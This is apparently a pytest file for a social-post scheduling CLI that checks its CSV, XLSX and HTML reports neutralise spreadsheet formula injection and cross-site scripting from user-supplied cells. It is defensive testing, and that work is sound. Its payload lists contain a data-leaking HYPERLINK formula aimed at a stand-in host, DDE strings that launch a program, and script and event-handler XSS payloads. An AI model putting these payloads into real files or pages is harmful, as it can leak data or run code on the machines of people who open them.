"""User content never becomes a formula in a CSV or XLSX file that bulkpost writes.

Text from a sheet that starts with ``=``, ``+``, ``-``, ``@`` (or a tab or carriage return
followed by one) is what CSV/formula injection uses: ``=HYPERLINK(...)`` leaks data when the
report is opened, ``=cmd|' /C calc'!A0`` runs a program through DDE. The validation reports
(``validate --report x.csv|x.xlsx``) and the results files of ``schedule`` carry such text in
several places: the input's own cells, unknown column names, the ``value`` of a finding.

XLSX files are checked twice: every cell holding a payload is a string cell (openpyxl
``data_type == "s"``), and no worksheet XML of the written file contains an ``<f>`` element at
all (the inputs here have no formulas of their own). CSV files are read back with ``csv`` and
no cell may start with a formula character; every payload must still be there, behind the
apostrophe, so that the protection is not achieved by dropping the text.
"""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from bulkpost.cli import cli
from bulkpost.report import FORMULA_PREFIXES, safe_csv_value, write_safe_cell

#: Injection payloads, one per row of the input sheet (and as platforms/time/unknown-column values).
PAYLOADS: list[str] = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?leak="&A1,"click me")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=\t1+1",
]
HEADER = ["content", "platforms", "scheduled_time", "=HYPERLINK(\"https://evil.example\")"]
_FORMULA_START = tuple(FORMULA_PREFIXES)


def _rows() -> list[list[str]]:
    rows = []
    for i, payload in enumerate(PAYLOADS):
        # The content is the payload; platforms and time carry one too on some rows so that the
        # findings (PLATFORM_UNKNOWN, TIME_INVALID) quote it in their "value" column.
        platforms = payload if i % 3 == 0 else "twitter"
        when = payload if i % 3 == 1 else "2031-05-01 10:%02d" % i
        rows.append([payload, platforms, when, payload])
    return rows


def _write_csv_input(path: Path) -> Path:
    with path.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(HEADER)
        w.writerows(_rows())
    return path


def _write_xlsx_input(path: Path) -> Path:
    """An input workbook whose payload cells are text cells (as Excel stores '=1+1 typed with a quote)."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Posts"
    for r, values in enumerate([HEADER, *_rows()], start=1):
        for c, value in enumerate(values, start=1):
            cell = ws.cell(row=r, column=c)
            cell.value = value
            cell.data_type = "s"  # openpyxl would make "=..." a formula; the user's cell is text
    wb.save(path)
    return path


def _formula_elements(path: Path) -> list[str]:
    """Every ``<f>`` element in the worksheets of an .xlsx (there must be none)."""
    found = []
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = zf.read(name).decode("utf-8")
                found += [f"{name}: {m}" for m in re.findall(r"<(?:\w+:)?f[\s>][^<]*", xml)]
    return found


def assert_xlsx_safe(path: Path) -> None:
    """No formula anywhere in the workbook; payload text kept in string cells."""
    assert _formula_elements(path) == []
    wb = openpyxl.load_workbook(path)  # not data_only: a formula would show as data_type "f"
    seen: set[str] = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str) and cell.value.startswith(_FORMULA_START):
                    assert cell.data_type == "s", f"{ws.title}!{cell.coordinate}"
                    seen.add(cell.value)
    # The payloads are still there, as text (bar the CR one, which openpyxl cannot keep in XML
    # as a leading CR unless escaped; it must then not start the cell at all).
    for payload in PAYLOADS:
        if payload.startswith("\r"):
            continue
        assert payload in seen, f"{payload!r} missing from the report"


def assert_csv_safe(path: Path) -> list[list[str]]:
    """No cell starts like a formula; every payload is present behind an apostrophe."""
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    cells = [c for row in rows for c in row]
    bad = [c for c in cells if c.startswith(_FORMULA_START)]
    assert bad == [], f"cells that a spreadsheet would run: {bad[:5]}"
    return rows


@pytest.fixture()
def runner() -> CliRunner:
    return CliRunner()


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_validation_report_xlsx_has_no_formula(tmp_path: Path, runner: CliRunner, kind: str) -> None:
    src = _write_csv_input(tmp_path / "posts.csv") if kind == "csv" else _write_xlsx_input(tmp_path / "posts.xlsx")
    out = tmp_path / "report.xlsx"
    result = runner.invoke(cli, ["validate", str(src), "--report", str(out)])
    assert result.exit_code == 1, result.output  # the payload platforms and times are errors
    assert out.exists()
    assert_xlsx_safe(out)


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_validation_report_csv_has_no_formula(tmp_path: Path, runner: CliRunner, kind: str) -> None:
    src = _write_csv_input(tmp_path / "posts.csv") if kind == "csv" else _write_xlsx_input(tmp_path / "posts.xlsx")
    out = tmp_path / "report.csv"
    result = runner.invoke(cli, ["validate", str(src), "--report", str(out)])
    assert result.exit_code == 1, result.output
    rows = assert_csv_safe(out)
    header = rows[0]
    values = [r[header.index("value")] for r in rows[1:]]
    # PLATFORM_UNKNOWN quotes each bad platform token (the cell is split at , and ;) in the
    # "value" column: those come back neutralised, not dropped.
    quoted = {v for v in values if v.startswith("'")}
    assert {"'=1+1", "'+1+1", "'-2+3+cmd|' /C calc'!A0"} <= quoted


def test_report_keeps_the_users_text_exactly(tmp_path: Path, runner: CliRunner) -> None:
    """Protection changes how a cell is stored, never the text a user sees in it."""
    from bulkpost.load import load_sheet

    src = _write_csv_input(tmp_path / "posts.csv")
    assert [r.get("content") for r in load_sheet(src).rows] == PAYLOADS
    out = tmp_path / "report.xlsx"
    runner.invoke(cli, ["validate", str(src), "--report", str(out)])
    ws = openpyxl.load_workbook(out).worksheets[0]
    contents = [ws.cell(row=r, column=1).value for r in range(2, 2 + len(PAYLOADS))]
    # XML turns a carriage return into a line feed; everything else is kept as typed.
    assert contents == [p.replace("\r", "\n") for p in PAYLOADS]


# --- the two helpers every writer goes through -------------------------------------------------

_text = st.text(min_size=0, max_size=40)


@settings(max_examples=300, deadline=None)
@given(prefix=st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\t=", "\r="]), rest=_text)
def test_safe_csv_value_never_starts_like_a_formula(prefix: str, rest: str) -> None:
    value = safe_csv_value(prefix + rest)
    assert isinstance(value, str)
    assert not value.startswith(_FORMULA_START)
    assert value == "'" + prefix + rest


@settings(max_examples=100, deadline=None)
@given(prefix=st.sampled_from(["=", "+", "-", "@", "\t="]), rest=st.text(alphabet=st.characters(min_codepoint=32, max_codepoint=0x2FFF), max_size=30))
def test_write_safe_cell_keeps_text_as_text(tmp_path_factory: pytest.TempPathFactory, prefix: str, rest: str) -> None:
    wb = openpyxl.Workbook()
    ws = wb.active
    write_safe_cell(ws, 1, 1, prefix + rest)
    path = tmp_path_factory.mktemp("cell") / "c.xlsx"
    wb.save(path)
    assert _formula_elements(path) == []
    back = openpyxl.load_workbook(path).active["A1"]
    assert back.data_type == "s"
    assert back.value == prefix + rest


# --- results files of `schedule` ---------------------------------------------------------------


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_schedule_results_file_has_no_formula(clean_sandbox: Any, tmp_path: Path, runner: CliRunner, suffix: str) -> None:
    """Rows whose text is a payload are valid posts; their results file must still be inert."""
    sheet = tmp_path / "posts.csv"
    with sheet.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["content", "platforms", "scheduled_time", "=notes"])
        for i, payload in enumerate(PAYLOADS):
            w.writerow([payload + f" #{i}", "twitter-1502345678901234567", f"2031-05-01 10:{i:02d}", payload])
        w.writerow(["@everyone row with a bad platform", "=cmd|' /C calc'!A0", "2031-05-01 11:00", "-1"])
    out = tmp_path / f"results{suffix}"
    result = runner.invoke(
        cli,
        ["schedule", str(sheet), "--base-url", clean_sandbox.base_url, "--yes", "--quiet", "--skip-invalid", "--report", str(out)],
        env={"PUBLORA_API_KEY": clean_sandbox.api_key},
    )
    assert result.exit_code == 1, result.output  # the last row is skipped
    groups = [g["content"] for g in clean_sandbox.state.data["groups"].values()]
    assert sorted(groups) == sorted(p.replace("\r", "\n") + f" #{i}" for i, p in enumerate(PAYLOADS))
    key = clean_sandbox.api_key.encode()
    assert clean_sandbox.api_key not in result.output
    assert all(key not in f.read_bytes() for f in tmp_path.rglob("*") if f.is_file())
    if suffix == ".xlsx":
        assert _formula_elements(out) == []
        wb = openpyxl.load_workbook(out)
        cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
        assert all(c.data_type != "f" for c in cells)
        texts = {c.value for c in cells if isinstance(c.value, str)}
        assert "=1+1 #0" in texts and "@SUM(1,1) #7" in texts
    else:
        rows = assert_csv_safe(out)
        flat = {c for r in rows for c in r}
        assert "'=1+1 #0" in flat and "'@SUM(1,1) #7" in flat and "'=notes" in flat


# --- the HTML report: sheet text is data, never markup ----------------------------------------------

HTML_PAYLOADS: list[str] = [
    "<script>alert('x')</script>",
    '"><img src=x onerror=alert(1)>',
    "</style><svg onload=alert(1)>",
    "javascript:alert(1)",
    "<a href='https://evil.example'>click</a>",
]


@pytest.mark.parametrize("command", ["validate", "schedule"])
def test_html_report_escapes_sheet_text(clean_sandbox: Any, tmp_path: Path, runner: CliRunner, command: str) -> None:
    """Every payload shows up as text; the page has no script, handler or outside link of its own."""
    from html.parser import HTMLParser

    sheet = tmp_path / "posts.csv"
    with sheet.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["content", "platforms", "scheduled_time", "<b>notes</b>"])
        for i, payload in enumerate(HTML_PAYLOADS):
            w.writerow([f"{payload} #{i}", "twitter-1502345678901234567", f"2031-05-01 10:{i:02d}", payload])
        w.writerow(["bad platform", "<script>alert(2)</script>", "2031-05-01 11:00", ""])
    out = tmp_path / "report.html"
    args = [command, str(sheet), "--report", str(out)]
    if command == "schedule":
        args += ["--base-url", clean_sandbox.base_url, "--yes", "--quiet", "--skip-invalid"]
    result = runner.invoke(cli, args, env={"PUBLORA_API_KEY": clean_sandbox.api_key})
    assert result.exit_code == 1, result.output
    page = out.read_text(encoding="utf-8")

    class Collect(HTMLParser):
        def __init__(self) -> None:
            super().__init__()
            self.tags: list[str] = []
            self.attrs: list[tuple[str, str | None]] = []
            self.text: list[str] = []

        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            self.tags.append(tag)
            self.attrs += attrs

        def handle_data(self, data: str) -> None:
            self.text.append(data)

    parsed = Collect()
    parsed.feed(page)
    assert "script" not in parsed.tags and "svg" not in parsed.tags
    assert not [name for name, _ in parsed.attrs if name.startswith("on")], "an event handler attribute in the page"
    # Links stay inside the page; images are embedded thumbnails.
    links = [v or "" for n, v in parsed.attrs if n in ("href", "src")]
    assert all(v.startswith(("#", "data:image/")) for v in links), [v[:60] for v in links if not v.startswith(("#", "data:image/"))]
    text = "".join(parsed.text)
    for i, payload in enumerate(HTML_PAYLOADS):
        assert f"{payload} #{i}" in text, f"{payload!r} not shown as text"
    assert clean_sandbox.api_key not in page
